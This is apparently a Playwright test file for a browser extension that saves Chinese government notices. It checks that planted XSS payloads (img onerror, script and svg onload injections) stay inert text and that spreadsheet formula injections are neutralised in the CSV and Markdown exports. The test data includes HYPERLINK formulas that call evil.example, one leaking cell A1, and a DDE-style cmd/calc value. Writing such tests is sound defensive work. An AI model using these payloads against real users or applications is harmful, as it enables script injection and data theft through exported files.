/**
 * A notice page that plants markup and script in its title, text, and in the analyst's note and tags:
 * nothing of it runs or becomes markup in the panel, the popup, the library or the compare view; and
 * spreadsheet formulas planted the same way (cells starting with = + - @) are neutralised in the Markdown
 * and CSV exports.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { launch, PanelDriver, parseCsv, selectText, type Session } from './harness';

/** Where the payloads would leave their mark, had any run. */
type HostileWindow = Window & { pwned?: unknown };

const PAYLOAD = '<img src=x onerror="window.pwned=1">';
const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const TITLE = `关于${PAYLOAD}做好安全生产工作的通知`;
const PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>${esc(TITLE)}</title></head><body><div id="zoom">
<p>${esc(TITLE)}</p><p>（某安委发〔2024〕3号）</p><p>各乡镇人民政府，县直各单位：</p>
<p>一、各单位要落实安全生产主体责任${esc('<script>window.pwned=2</script>')}，严禁违规作业。</p>
<p>二、各乡镇要于2024年5月底前完成隐患排查，不得瞒报、谎报。</p>
<p>三、各有关部门要加强监督检查，建立健全隐患排查治理制度，对重大隐患实行挂牌督办，确保整改措施、责任、资金、时限和预案落实到位。各单位主要负责人要亲自研究部署，层层压实责任，切实做到守土有责、守土尽责。</p>
<p>四、鼓励企业采用先进适用的安全技术和装备，提高本质安全水平。对工作不力、造成严重后果的，依法依规严肃问责。</p><p>特此通知。</p><p>某县安全生产委员会</p><p>2024年4月1日</p></div></body></html>`;
const URL_H = 'http://www.anwei.gov.cn/xxgk/hostile.html';

// A second notice, its title a formula and its text carrying script, to compare with the first.
const TITLE_2 = `=HYPERLINK("http://evil.example/?q="&A1,"关于进一步${PAYLOAD}加强消防安全的通知")`;
const PAGE_2 = `<!doctype html><html><head><meta charset="utf-8"><title>${esc(TITLE_2)}</title></head><body><div id="zoom">
<p>${esc(TITLE_2)}</p><p>（某消委发〔2024〕7号）</p><p>各乡镇人民政府，县直各单位：</p>
<p>一、各单位要落实消防安全主体责任${esc('<svg onload="window.pwned=4"></svg>')}，严禁违规作业。</p>
<p>二、各乡镇要于2024年6月底前完成隐患排查，不得瞒报、谎报。</p>
<p>三、各有关部门要加强监督检查，建立健全隐患排查治理制度，对重大隐患实行挂牌督办，确保整改措施、责任、资金、时限和预案落实到位。各单位主要负责人要亲自研究部署，层层压实责任，切实做到守土有责、守土尽责。</p>
<p>四、鼓励企业采用先进适用的消防技术和装备，提高本质安全水平。对工作不力、造成严重后果的，依法依规严肃问责。</p>
<p>特此通知。</p><p>某县消防安全委员会</p><p>2024年5月1日</p></div></body></html>`;
const URL_2 = 'http://www.xiaofang.gov.cn/xxgk/hostile-2.html';

/** Notes and tags an analyst might paste from a spreadsheet, or a page might plant: each a formula. */
const FORMULA_NOTE = '=HYPERLINK("http://evil.example","点我")\n+cmd|\' /C calc\'!A0\n-2+3\n@SUM(A1:A9)';
const FORMULA_TAGS = '=1+1, +x, -y, @z';

describe('hostile page data', () => {
  let s: Session;
  const dir = mkdtempSync(join(tmpdir(), 'notice-lens-hostile-'));
  beforeAll(async () => {
    s = await launch();
    s.serve(URL_H, PAGE);
    s.serve(URL_2, PAGE_2);
  });
  afterAll(async () => {
    await s?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  async function openLibrary(hash = ''): Promise<Page> {
    const lib = await s.context.newPage();
    await lib.goto(`chrome-extension://${s.extensionId}/library.html${hash}`);
    await lib.waitForSelector('.library');
    return lib;
  }

  async function download(lib: Page, selector: string): Promise<string> {
    const [file] = await Promise.all([lib.waitForEvent('download'), lib.click(selector)]);
    const path = join(dir, file.suggestedFilename());
    await file.saveAs(path);
    return path;
  }

  it('stays text in the panel and in every extension page', async () => {
    const page = await s.open(URL_H);
    await page.waitForFunction(() => CSS.highlights.size > 0, null, { timeout: 20000 });
    const panel = await PanelDriver.attach(page);
    await selectText(page, '严禁违规作业');
    await panel.click('[data-action="note"]');
    await panel.type('[data-field="note"]', `${PAYLOAD}<script>window.pwned=3</script>`);
    await panel.type('[data-field="tags"]', '<b>x</b>');
    await panel.click('[data-action="save"]');
    await panel.click('[data-action="open"]');
    await panel.click('[data-action="save-notice"]');
    expect(await panel.text('.panel')).toContain(PAYLOAD);
    expect(await panel.exists('img')).toBe(false);
    expect(await page.evaluate(() => (window as HostileWindow).pwned)).toBeUndefined();

    for (const path of ['popup.html', 'library.html']) {
      const ext = await s.context.newPage();
      await ext.goto(`chrome-extension://${s.extensionId}/${path}`);
      await expect.poll(async () => (await ext.locator('li.notice .t').allTextContents()).join('')).toContain(PAYLOAD);
      expect(await ext.locator('li.notice img, li.notice script, li.notice b').count()).toBe(0);
      if (path === 'library.html') {
        await ext.click('li.notice .open');
        await ext.waitForSelector('.detail');
        expect(await ext.locator('.detail').textContent()).toContain(`${PAYLOAD}<script>window.pwned=3</script>`);
        expect(await ext.locator('.detail img, .detail script').count()).toBe(0);
        expect(await ext.locator('.detail').textContent()).toContain('#<b>x</b>');
      }
      expect(await ext.evaluate(() => (window as HostileWindow).pwned)).toBeUndefined();
      await ext.close();
    }
    await page.close();
  });

  it('stays text in the compare view', async () => {
    const page = await s.open(URL_2);
    await page.waitForFunction(() => CSS.highlights.size > 0, null, { timeout: 20000 });
    const panel = await PanelDriver.attach(page);
    await panel.click('[data-action="open"]');
    await panel.click('[data-action="save-notice"]');
    await expect.poll(() => panel.text('[data-action="save-notice"]')).toContain('已收藏');
    await page.close();

    const lib = await openLibrary();
    await expect.poll(() => lib.locator('li.notice').count()).toBe(2);
    for (const box of await lib.locator('li.notice input[type=checkbox]').all()) await box.check();
    await lib.click('[data-action="compare"]');
    await lib.waitForSelector('[data-section="side-by-side"] .row');
    const shown = await lib.locator('.compare').textContent();
    // Titles and texts are there as text: the markup is visible, none of it became elements.
    expect(shown).toContain(PAYLOAD);
    expect(shown).toContain('<svg onload="window.pwned=4"></svg>');
    expect(shown).toContain('<script>window.pwned=2</script>');
    expect(await lib.locator('.compare img, .compare script, .compare svg, .compare iframe').count()).toBe(0);
    // The same view opened straight from its address (#compare=), as a bookmark would.
    const address = new URL(lib.url()).hash;
    expect(address).toMatch(/^#compare=/);
    const direct = await openLibrary(address);
    await direct.waitForSelector('[data-section="side-by-side"] .row');
    expect(await direct.locator('.compare').textContent()).toContain(PAYLOAD);
    expect(await direct.locator('.compare img, .compare script, .compare svg, .compare iframe').count()).toBe(0);
    for (const p of [lib, direct]) expect(await p.evaluate(() => (window as HostileWindow).pwned)).toBeUndefined();
    await lib.close();
    await direct.close();
  });

  it('neutralises formulas in the Markdown and CSV exports', async () => {
    const page = await s.open(URL_2);
    await page.waitForFunction(() => CSS.highlights.size > 0, null, { timeout: 20000 });
    const panel = await PanelDriver.attach(page);
    await selectText(page, '不得瞒报、谎报');
    await panel.click('[data-action="note"]');
    await panel.type('[data-field="note"]', FORMULA_NOTE);
    await panel.type('[data-field="tags"]', FORMULA_TAGS);
    await panel.click('[data-action="save"]');
    await panel.recordStatus();
    await expect.poll(async () => (await panel.statusLog()).at(-1), { timeout: 20000 }).toBe('已保存');
    await page.close();

    const lib = await openLibrary();
    await expect.poll(() => lib.locator('li.notice').count()).toBe(2);

    const csv = readFileSync(await download(lib, '[data-export="csv"]'), 'utf8').replace(/^\uFEFF/, '');
    const rows = parseCsv(csv);
    const cells = rows.slice(1).flat();
    // The planted values are all there…
    expect(cells.some((c) => c.includes('HYPERLINK("http://evil.example","点我")'))).toBe(true);
    expect(cells.some((c) => c.includes('HYPERLINK("http://evil.example/?q="&A1'))).toBe(true);
    // …and no cell starts with a formula character: each got a leading apostrophe.
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContainEqual(expect.stringMatching(/^'=HYPERLINK\("http:\/\/evil\.example","点我"\)/));
    expect(cells).toContainEqual(expect.stringMatching(/^'=HYPERLINK\("http:\/\/evil\.example\/\?q="&A1/));

    const md = readFileSync(await download(lib, '[data-export="md"]'), 'utf8');
    expect(md).toContain('SUM(A1:A9)');
    // No line of page or analyst text starts with a formula character. Lines of our own that start with -
    // are list items ("- **标题**：…") and the rule between notices.
    for (const line of md.split('\n')) {
      expect(line).not.toMatch(/^[=+@\t]/);
      if (line.startsWith('-')) expect(line).toMatch(/^(- \*\*[^*]+\*\*：|---$)/);
    }
    expect(md).toContain('\\@SUM(A1:A9)');
    expect(md).toContain('\\-2+3');
    await lib.close();
  });
});
